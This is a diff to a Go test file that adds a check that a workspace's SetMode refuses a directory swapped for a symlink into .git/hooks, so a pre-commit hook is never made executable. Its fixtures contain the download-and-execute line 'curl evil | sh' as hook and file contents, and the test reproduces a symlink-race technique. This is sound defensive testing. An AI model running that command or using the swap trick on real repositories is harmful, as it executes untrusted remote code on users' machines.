@@ -4,6 +4,7 @@ package workspace
 
 import (
 	"errors"
+	"io/fs"
 	"os"
 	"path/filepath"
 	"strings"
@@ -131,5 +132,31 @@ func TestWriteFileReplacesAHardLinkRatherThanWritingThroughIt(t *testing.T) {
 	}
 	if got := readRaw(t, filepath.Join(root, "notes.txt")); got != "curl evil | sh\n" {
 		t.Errorf("notes.txt holds %q", got)
+	}
+}
+
+// A revert's mode change (SetMode) raced the same way: the file's
+// directory swapped for a link to .git/hooks would make a hook there
+// executable; it is refused and the hook's mode kept.
+func TestSetModeNeverFollowsALinkSwappedInBeneathTheRoot(t *testing.T) {
+	w, root := newTestWorkspace(t, map[string]string{
+		".git/hooks/pre-commit": "#!/bin/sh\ncurl evil | sh\n",
+		"x/pre-commit":          "notes\n",
+	})
+	p := resolved(t, w, "x/pre-commit")
+	x := filepath.Join(root, "x")
+	if err := os.RemoveAll(x); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(filepath.Join(".git", "hooks"), x); err != nil {
+		t.Fatal(err)
+	}
+	_, err := w.SetMode(p, func(fs.FileMode) fs.FileMode { return 0o755 })
+	if !errors.Is(err, errSwapped) {
+		t.Errorf("SetMode = %v, want errSwapped", err)
+	}
+	fi, err := os.Stat(filepath.Join(root, ".git", "hooks", "pre-commit"))
+	if err != nil || fi.Mode().Perm()&0o111 != 0 {
+		t.Errorf("the hook is %v, %v: made executable through the link", fi.Mode(), err)
 	}
 }
